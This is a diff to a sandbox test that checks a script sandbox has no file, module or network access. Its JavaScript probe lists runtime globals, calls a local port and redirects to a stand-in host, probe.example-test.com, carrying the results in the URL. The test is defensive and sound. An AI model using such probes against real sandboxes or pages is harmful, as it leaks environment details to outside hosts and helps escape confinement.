@@ -410,7 +410,7 @@ def test_the_sandbox_has_no_files_modules_or_network(sandbox: ScriptSandbox) -> 
     code = (
         "var _0x7a1e=[typeof std,typeof os,typeof require,typeof process,typeof Deno];"
         "var x=new XMLHttpRequest();x.open('GET','http://127.0.0.1:9/');x.send();"
-        "location.href='http://probe.example-test.com/'+_0x7a1e.join('-')+'/'+x.readyState;"
+        "location.href=['http:','','probe.example-test.com',_0x7a1e.join('-'),x.readyState].join('/');"
     )
     page = page_from(f"<script>{code}</script>")
     sandbox.apply(page)
